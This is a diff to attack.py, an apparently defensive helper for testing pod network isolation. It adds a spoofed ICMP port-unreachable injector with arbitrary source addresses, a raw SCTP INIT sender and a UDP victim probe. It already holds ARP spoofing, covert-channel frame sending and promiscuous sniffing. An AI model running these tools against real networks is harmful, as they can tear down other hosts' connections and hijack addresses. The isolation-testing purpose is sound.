@@ -9,8 +9,22 @@ Run inside a pod's network namespace (`ip netns exec POD-NS attack.py ...`).
       Count the UDP datagrams that arrive on port P within S seconds; print the count.
       Prints "ready" on stderr once bound.
 
-  attack.py udp-echo --dst IP --dport P --sport P [--timeout S]
-      Send one datagram from port sport and wait for its echo: print 1 if it came back, else 0.
+  attack.py udp-echo --dst IP --dport P --sport P [--timeout S] [--count N] [--size B]
+      Send N datagrams of B bytes (default 1 of 4) from port sport, one at a time, each
+      waiting for its echo; print how many echoes came back.
+
+  attack.py udp-victim --peer IP --dport P --sport P --wait S
+      A connected UDP socket: send one datagram and take its echo, print "ready" on stderr,
+      then watch for S seconds whether an ICMP error reaches the socket: print "refused" (an
+      ICMP port unreachable arrived) or "quiet".
+
+  attack.py icmp-error --src IP --dst IP --inner-src IP --inner-sport P --inner-dst IP
+                       --inner-dport P [--count N]
+      Send N ICMP port-unreachable errors from SRC to DST about the UDP datagram
+      INNER-SRC:INNER-SPORT -> INNER-DST:INNER-DPORT (a raw socket: any outer source).
+
+  attack.py sctp-raw --src IP --dst IP --sport P --dport P [--count N]
+      Send N raw SCTP INIT chunks from SRC:SPORT to DST:DPORT (no SCTP stack needed).
 
   attack.py arp-claim --iface IF --spa IP --tpa IP [--count N]
       Broadcast N ARP requests "who has TPA, tell SPA" with the interface's own MAC as the
@@ -22,9 +36,10 @@ Run inside a pod's network namespace (`ip netns exec POD-NS attack.py ...`).
       shapes a covert channel to a colluding pod would use); with an 802.1Q tag of TCI
       (0 is a priority tag) when --vlan is given.
 
-  attack.py sniff --iface IF --from-mac MAC --timeout S
+  attack.py sniff --iface IF --from-mac MAC --timeout S [--ip-proto N [--dport P]]
       Put IF in promiscuous mode and count the frames with source MAC that arrive within S
-      seconds; print the count. Prints "ready" on stderr once listening.
+      seconds (IPv4 of that protocol to that destination port only, when given); print the
+      count. Prints "ready" on stderr once listening.
 """
 
 import argparse
@@ -77,14 +92,84 @@ def udp_listen(args):
 
 def udp_echo(args):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     s.bind(("0.0.0.0", args.sport))
     s.settimeout(args.timeout)
-    s.sendto(b"ping", (args.dst, args.dport))
-    try:
-        s.recv(2048)
-        print(1)
-    except socket.timeout:
-        print(0)
+    payload = (b"ping" * (args.size // 4 + 1))[: args.size]
+    got = 0
+    for _ in range(args.count):
+        s.sendto(payload, (args.dst, args.dport))
+        try:
+            if len(s.recv(65535)) == len(payload):
+                got += 1
+        except socket.timeout:
+            pass
+    print(got)
+
+
+def udp_victim(args):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("0.0.0.0", args.sport))
+    s.connect((args.peer, args.dport))
+    s.settimeout(2)
+    s.send(b"hello")
+    s.recv(2048)
+    print("ready", file=sys.stderr, flush=True)
+    deadline = time.monotonic() + args.wait
+    verdict = "quiet"
+    while (left := deadline - time.monotonic()) > 0:
+        s.settimeout(left)
+        try:
+            s.recv(2048)
+        except socket.timeout:
+            break
+        except ConnectionRefusedError:
+            verdict = "refused"
+            break
+    print(verdict)
+
+
+def ip_header(src, dst, proto, payload_len, ident=0x1234):
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, ident, 0, 64, proto, 0, src, dst)
+    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+
+
+def send_raw(dst, packet, count):
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    for _ in range(count):
+        s.sendto(packet, (dst, 0))
+        time.sleep(0.05)
+
+
+def icmp_error(args):
+    inner_src, inner_dst = socket.inet_aton(args.inner_src), socket.inet_aton(args.inner_dst)
+    inner_udp = struct.pack("!HHHH", args.inner_sport, args.inner_dport, 8 + 5, 0)
+    inner = ip_header(inner_src, inner_dst, socket.IPPROTO_UDP, 8 + 5) + inner_udp
+    icmp = struct.pack("!BBHI", 3, 3, 0, 0) + inner
+    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
+    src, dst = socket.inet_aton(args.src), socket.inet_aton(args.dst)
+    send_raw(args.dst, ip_header(src, dst, socket.IPPROTO_ICMP, len(icmp)) + icmp, args.count)
+
+
+def crc32c(data):
+    crc = 0xFFFFFFFF
+    for byte in data:
+        crc ^= byte
+        for _ in range(8):
+            crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
+    return crc ^ 0xFFFFFFFF
+
+
+def sctp_raw(args):
+    # INIT chunk: type 1, flags 0, length 20, initiate tag, a_rwnd, streams, initial TSN.
+    chunk = struct.pack("!BBHIIHHI", 1, 0, 20, 0x1234567, 65535, 1, 1, 1)
+    common = struct.pack("!HHII", args.sport, args.dport, 0, 0)
+    sctp = common + chunk
+    sctp = sctp[:8] + struct.pack("<I", crc32c(sctp)) + sctp[12:]
+    src, dst = socket.inet_aton(args.src), socket.inet_aton(args.dst)
+    send_raw(args.dst, ip_header(src, dst, 132, len(sctp)) + sctp, args.count)
 
 
 def arp_claim(args):
@@ -125,6 +210,15 @@ def frame_send(args):
         time.sleep(0.02)
 
 
+def wanted_ip(frame, proto, dport):
+    if proto is None:
+        return True
+    if frame[12:14] != b"\x08\x00" or frame[14 + 9] != proto:
+        return False
+    ihl = (frame[14] & 0x0F) * 4
+    return dport is None or struct.unpack("!H", frame[14 + ihl + 2 : 14 + ihl + 4])[0] == dport
+
+
 def sniff(args):
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
     s.bind((args.iface, 0))
@@ -142,7 +236,7 @@ def sniff(args):
         except socket.timeout:
             break
         # addr[2] is the packet type: 4 (PACKET_OUTGOING) is the pod's own sending.
-        if addr[2] != 4 and frame[6:12] == want:
+        if addr[2] != 4 and frame[6:12] == want and wanted_ip(frame, args.ip_proto, args.dport):
             n += 1
     print(n)
 
@@ -166,7 +260,29 @@ def main():
     c.add_argument("--dport", type=int, required=True)
     c.add_argument("--sport", type=int, required=True)
     c.add_argument("--timeout", type=float, default=1.0)
+    c.add_argument("--count", type=int, default=1)
+    c.add_argument("--size", type=int, default=4)
     c.set_defaults(run=udp_echo)
+    c = sub.add_parser("udp-victim")
+    c.add_argument("--peer", required=True)
+    c.add_argument("--dport", type=int, required=True)
+    c.add_argument("--sport", type=int, required=True)
+    c.add_argument("--wait", type=float, required=True)
+    c.set_defaults(run=udp_victim)
+    c = sub.add_parser("icmp-error")
+    for name in ("--src", "--dst", "--inner-src", "--inner-dst"):
+        c.add_argument(name, required=True)
+    c.add_argument("--inner-sport", type=int, required=True)
+    c.add_argument("--inner-dport", type=int, required=True)
+    c.add_argument("--count", type=int, default=3)
+    c.set_defaults(run=icmp_error)
+    c = sub.add_parser("sctp-raw")
+    c.add_argument("--src", required=True)
+    c.add_argument("--dst", required=True)
+    c.add_argument("--sport", type=int, required=True)
+    c.add_argument("--dport", type=int, required=True)
+    c.add_argument("--count", type=int, default=3)
+    c.set_defaults(run=sctp_raw)
     c = sub.add_parser("arp-claim")
     c.add_argument("--iface", required=True)
     c.add_argument("--spa", required=True)
@@ -186,6 +302,8 @@ def main():
     c.add_argument("--iface", required=True)
     c.add_argument("--from-mac", required=True)
     c.add_argument("--timeout", type=float, required=True)
+    c.add_argument("--ip-proto", type=int)
+    c.add_argument("--dport", type=int)
     c.set_defaults(run=sniff)
     args = p.parse_args()
     args.run(args)
